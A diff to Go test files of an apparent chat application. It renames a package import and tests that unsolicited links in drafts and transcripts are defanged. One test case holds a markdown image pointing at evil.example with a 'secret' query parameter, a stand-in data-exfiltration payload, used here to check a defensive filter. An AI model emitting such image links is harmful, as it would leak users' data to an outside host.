@@ -7,7 +7,7 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
-	"github.com/roundtable-chat/app/roundtable"
+	"github.com/roundtable-chat/app/roundtable/thread"
 )
 
 // TestDraftsLeadWherePeoplePointed shows that whatever an inquirer writes, its links
@@ -15,7 +15,7 @@ import (
 // what goes into the thread and on to an elaboration.
 func TestDraftsLeadWherePeoplePointed(t *testing.T) {
 	targets := []Target{{"a.md", PartSection, "One", ""}, {"s.json", PartList, "stories", ""}, {"m.csv", PartRows, "id, name", ""}}
-	given := roundtable.Links{"https://shop.example/plan": true}
+	given := thread.Links{"https://shop.example/plan": true}
 	tests := []struct{ name, file, content, want string }{
 		{"a given link", "a.md", "See [it](https://shop.example/plan).", "See [it](https://shop.example/plan)."},
 		{"a foreign image", "a.md", "Fine ![x](https://evil.example/?q=secret)", "Fine ![x] (https[:]//evil.example/?q=secret)"},
@@ -51,10 +51,10 @@ func TestWordsOfADraftLeadWherePeoplePointed(t *testing.T) {
 	a.State, a.Writing, a.Purpose, a.Step.From = StateValidating, nil, ForFeedback, 1
 	a.Ask, a.Turns = &Ask{Kind: AskCompose, Key: "A1/c", Attempt: 1}, 2
 	a.Step.Targets = []Target{{"a.md", PartSection, "One", ""}}
-	transcript := roundtable.ReadTranscript([]roundtable.Entry{
-		{Kind: roundtable.EntryTurn, Turn: 1, Persona: testCast()[0].Key, Text: "Like https://evil.example?", TS: "1"},
-		{Kind: roundtable.EntryTurn, Turn: 2, Person: &roundtable.Person{ID: "U1", Name: "Priya"}, TS: "2", Text: "<https://shop.example/plan>"},
-		{Kind: roundtable.EntryMark, Mark: &roundtable.Mark{Kind: roundtable.MarkDecision, By: person("Priya"), TS: "1"}},
+	transcript := thread.ReadTranscript([]thread.Entry{
+		{Kind: thread.EntryTurn, Turn: 1, Persona: testCast()[0].Key, Text: "Like https://evil.example?", TS: "1"},
+		{Kind: thread.EntryTurn, Turn: 2, Person: &thread.Person{ID: "U1", Name: "Priya"}, TS: "2", Text: "<https://shop.example/plan>"},
+		{Kind: thread.EntryMark, Mark: &thread.Mark{Kind: thread.MarkDecision, By: person("Priya"), TS: "1"}},
 	})
 	for _, draft := range []*Draft{
 		{Point: "https://evil.example is it", Summary: "See https://evil.example", Parts: []Part{{File: "a.md", Content: "x"}}},
